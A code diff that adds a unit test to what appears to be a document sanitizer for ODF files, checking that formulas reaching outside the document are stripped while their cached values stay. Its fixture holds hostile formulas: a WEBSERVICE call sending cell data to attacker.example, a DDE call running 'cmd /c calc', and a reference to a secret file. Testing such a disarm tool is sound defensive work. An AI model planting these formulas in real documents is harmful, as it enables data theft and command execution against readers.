@@ -732,6 +732,35 @@ TEST(CdrOdf, OnlyOdfNamespacesSurviveUnderTheirStandardPrefixes) {
   EXPECT_TRUE(internal::package_active_content(r.output).empty());
 }
 
+// #21: formulas that reach outside the document — LibreOffice's WEBSERVICE and DDE functions, a
+// reference into another file — lose the formula and keep the value last computed; an ordinary
+// formula stays.
+TEST(CdrOdf, FormulasThatReachOutsideGoAndTheirValuesStay) {
+  const std::string content =
+      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
+      " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
+      " xmlns:of=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" office:version=\"1.3\"><office:body><office:text><t:table t:name=\"T\"><t:table-row>"
+      "<t:table-cell t:formula=\"of:=WEBSERVICE(&quot;http://attacker.example/?q=&quot;&amp;[.B1])\" office:value-type=\"string\"><text:p>cached1</text:p></t:table-cell>"
+      "<t:table-cell t:formula=\"of:=dde (&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)\" office:value-type=\"string\"><text:p>cached2</text:p></t:table-cell>"
+      "<t:table-cell t:formula=\"of:=['file:///C:/secret.ods'#$Sheet1.A1]\" office:value-type=\"float\" office:value=\"7\"><text:p>7</text:p></t:table-cell>"
+      "<t:table-cell t:formula=\"of:=SUM([.A1:.A2])\" office:value-type=\"float\" office:value=\"3\"><text:p>3</text:p></t:table-cell>"
+      "</t:table-row></t:table></office:text></office:body></office:document-content>";
+  CdrResult r = run(odt_with_parts(content, {}, ""), "表.odt");
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  std::size_t removed = 0;
+  for (const auto& f : r.findings) removed += f.kind == "external_formula";
+  EXPECT_EQ(removed, 3u);
+  const std::string out = fixtures::unzip(r.output)["content.xml"];
+  for (const char* gone : {"WEBSERVICE", "dde (", "secret.ods"}) EXPECT_EQ(out.find(gone), std::string::npos) << gone << ": " << out;
+  for (const char* kept : {"cached1", "cached2", "of:=SUM([.A1:.A2])", "office:value=\"7\""}) EXPECT_NE(out.find(kept), std::string::npos) << kept << ": " << out;
+  EXPECT_EQ(run(r.output, "表.odt").verdict, Verdict::clean);
+  // The second reader sees the three in the input and none in the output.
+  std::size_t seen = 0;
+  for (const auto& f : internal::package_active_content(odt_with_parts(content, {}, ""))) seen += f.find(" formula ") != std::string::npos;
+  EXPECT_EQ(seen, 3u);
+  EXPECT_TRUE(internal::package_active_content(r.output).empty());
+}
+
 // The fuzz targets' second reader (package_active_content) sees the script, the macro library,
 // the object and the macro field in the hostile ODF, and nothing in the rebuilt one.
 TEST(CdrOdf, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
